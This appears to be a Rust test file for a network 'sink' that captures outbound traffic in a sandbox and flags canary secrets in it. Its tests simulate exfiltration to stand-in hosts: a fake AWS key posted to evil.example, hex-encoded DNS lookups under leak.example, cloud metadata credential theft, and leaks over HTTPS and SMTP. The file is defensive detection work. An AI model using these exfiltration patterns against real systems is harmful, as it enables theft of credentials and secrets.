//! The sink as the gate uses it, by sockets of this machine's loopback: what was said is told, with the canaries in it.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};

use super::*;

const VALUE: &str = "AKIA2X7QNN4PZK3M9TRW";

fn sink(dir: &Path) -> Arc<Sink> {
    let canary = Canary { value: VALUE.into(), place: ".env".into(), name: "KEY".into() };
    Sink::open(dir, vec![canary], Some(86_400)).unwrap()
}

/// One conversation: `to` is where the client believes to be.
fn visit(sink: &Arc<Sink>, to: &str, client: impl FnOnce(TcpStream)) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let here = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (there, from) = listener.accept().unwrap();
    let who = Who { pid: 7, program: "/usr/bin/curl".into() };
    sink.called(1, from, who);
    let visit = Visit { actor: 1, transport: Transport::Tcp, from, to: to.parse().unwrap(), who: Who::default() };
    let expected = sink.expect();
    let sink = Arc::clone(sink);
    let serving = std::thread::spawn(move || {
        let _expected = expected;
        sink.converse(visit, there);
    });
    client(here);
    serving.join().unwrap();
}

fn query(name: &str) -> Vec<u8> {
    let mut out = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        out.push(label.len() as u8);
        out.extend(label.as_bytes());
    }
    out.extend([0, 0, 1, 0, 1]);
    out
}

#[test]
fn what_was_sent_is_told_with_its_canaries() {
    let dir = tempfile::tempdir().unwrap();
    let sink = sink(dir.path());
    let server = Visit {
        actor: 1,
        transport: Transport::Udp,
        from: "10.0.0.1:999".parse().unwrap(),
        to: "127.0.0.53:53".parse().unwrap(),
        who: Who { pid: 7, program: String::new() },
    };
    let answer = sink.ask(&server, &query("evil.example")).unwrap();
    let address: [u8; 4] = answer[answer.len() - 4..].try_into().unwrap();
    assert_eq!(sink.name_of(IpAddr::from(address)).as_deref(), Some("evil.example"));
    let hex: String = VALUE.bytes().map(|byte| format!("{byte:02x}")).collect();
    for (number, piece) in hex.as_bytes().chunks(10).enumerate() {
        for _ in 0..2 {
            sink.ask(&server, &query(&format!("{}.{number}.leak.example", std::str::from_utf8(piece).unwrap())));
        }
    }
    visit(&sink, &format!("{}:80", std::net::Ipv4Addr::from(address)), |mut stream| {
        write!(stream, "POST /collect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 25\r\nConnection: close\r\n\r\nenv={VALUE}!")
            .unwrap();
        let mut heard = String::new();
        stream.read_to_string(&mut heard).unwrap();
        assert!(heard.starts_with("HTTP/1.1 200 OK\r\n") && heard.contains("{\"ok\":true"), "{heard}");
        assert!(heard.contains(&date::http(86_400)[..16]), "the day is the trial's: {heard}");
    });
    let mut stolen = String::new();
    visit(&sink, "169.254.169.254:80", |mut stream| {
        write!(stream, "GET /latest/meta-data/iam/security-credentials/r HTTP/1.0\r\n\r\n").unwrap();
        stream.read_to_string(&mut stolen).unwrap();
    });
    let secret = stolen.split("SecretAccessKey\":\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    sink.datagram(&Visit { to: "192.0.2.9:99".parse().unwrap(), ..server.clone() }, secret.as_bytes());
    let sent = sink.finish(&|actor| actor).unwrap();
    assert_eq!(sent.limits, [] as [String; 0]);
    let of = |name: &str| sent.entries.iter().filter(|entry| entry.canaries.iter().any(|canary| canary.name == name)).collect::<Vec<_>>();
    let http = of("KEY").into_iter().find(|entry| entry.protocol == "http").unwrap();
    assert_eq!((http.summary.as_bytes(), http.pid, http.requests), (&b"POST /collect"[..], 7, 1));
    assert_eq!(http.host.as_ref().map(|host| host.as_bytes()), Some(&b"evil.example"[..]));
    let names: Vec<_> = of("KEY").into_iter().filter(|entry| entry.protocol == "dns").collect();
    assert!(names.len() >= 4 && names.iter().all(|entry| entry.canaries[0].encoding == "hex"), "{names:#?}");
    assert_eq!(of("SecretAccessKey")[0].to, "192.0.2.9:99", "what the metadata service handed out is known again");
    let told: serde_json::Value = serde_json::from_slice(&std::fs::read(dir.path().join("sent.json")).unwrap()).unwrap();
    assert_eq!(told["entries"].as_array().unwrap().len(), sent.entries.len());
    for file in ["network.pcapng", "network.har", "ca-certificates.crt"] {
        assert!(std::fs::metadata(dir.path().join(file)).unwrap().len() > 100, "{file}");
    }
}

#[test]
fn within_tls_whoever_trusts_the_authority_speaks() {
    use rustls::pki_types::{CertificateDer, ServerName, pem::PemObject};
    let dir = tempfile::tempdir().unwrap();
    let sink = sink(dir.path());
    let client = |trusts: bool| {
        let mut roots = rustls::RootCertStore::empty();
        if trusts {
            roots.add(CertificateDer::from_pem_file(sink.authority()).unwrap()).unwrap();
        }
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let builder = rustls::ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap();
        let config = Arc::new(builder.with_root_certificates(roots).with_no_client_auth());
        rustls::ClientConnection::new(config, ServerName::try_from("api.evil.example").unwrap()).unwrap()
    };
    let request = format!("POST /in HTTP/1.1\r\nHost: api.evil.example\r\nConnection: close\r\nContent-Length: 20\r\n\r\n{VALUE}");
    visit(&sink, "192.0.2.1:443", |mut stream| {
        let mut connection = client(true);
        let mut stream = rustls::Stream::new(&mut connection, &mut stream);
        stream.write_all(request.as_bytes()).unwrap();
        let mut heard = Vec::new();
        stream.read_to_end(&mut heard).unwrap();
        assert!(heard.starts_with(b"HTTP/1.1 200 OK"));
    });
    visit(&sink, "192.0.2.1:443", |mut stream| {
        let mut connection = client(false);
        assert!(rustls::Stream::new(&mut connection, &mut stream).write_all(request.as_bytes()).is_err());
    });
    let sent = sink.finish(&|actor| actor).unwrap();
    let [spoke, refused] = &sent.entries[..] else { panic!("{:#?}", sent.entries) };
    assert_eq!((spoke.protocol.as_str(), spoke.canaries.len()), ("https", 1));
    assert_eq!((refused.protocol.as_str(), refused.canaries.len()), ("tls", 0));
    let why = String::from_utf8_lossy(refused.summary.as_bytes()).into_owned();
    assert!(why.contains("api.evil.example") && why.contains("UnknownC"), "{why}");
    let capture = std::fs::read(dir.path().join("network.pcapng")).unwrap();
    assert!(capture.windows(13).any(|window| window == b"CLIENT_HANDSH"), "the secrets are written along");
}

#[test]
fn a_mail_within_tls_is_read() {
    use std::io::BufRead;

    use rustls::pki_types::{CertificateDer, ServerName, pem::PemObject};
    let dir = tempfile::tempdir().unwrap();
    let sink = sink(dir.path());
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(sink.authority()).unwrap()).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = rustls::ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap();
    let config = Arc::new(builder.with_root_certificates(roots).with_no_client_auth());
    visit(&sink, "192.0.2.1:587", |mut stream| {
        let mut heard = io::BufReader::new(stream.try_clone().unwrap());
        let mut until = |end: &str| loop {
            let mut line = String::new();
            assert_ne!(heard.read_line(&mut line).unwrap(), 0, "it ended before {end}");
            if line.starts_with(end) {
                break;
            }
        };
        until("220 ");
        stream.write_all(b"EHLO me\r\n").unwrap();
        until("250-STARTTLS");
        until("250 ");
        stream.write_all(b"STARTTLS\r\n").unwrap();
        until("220 ");
        let mut connection = rustls::ClientConnection::new(config, ServerName::try_from("mail.evil.example").unwrap()).unwrap();
        let mut inside = rustls::Stream::new(&mut connection, &mut stream);
        write!(inside, "EHLO me\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n{VALUE}\r\n.\r\nQUIT\r\n").unwrap();
        let mut replies = String::new();
        inside.read_to_string(&mut replies).unwrap();
        assert!(replies.contains("queued as") && replies.contains("221 ") && !replies.contains("STARTTLS"), "{replies}");
    });
    let sent = sink.finish(&|actor| actor).unwrap();
    assert_eq!((sent.entries[0].protocol.as_str(), sent.entries[0].canaries.len()), ("smtp", 1), "{sent:#?}");
}
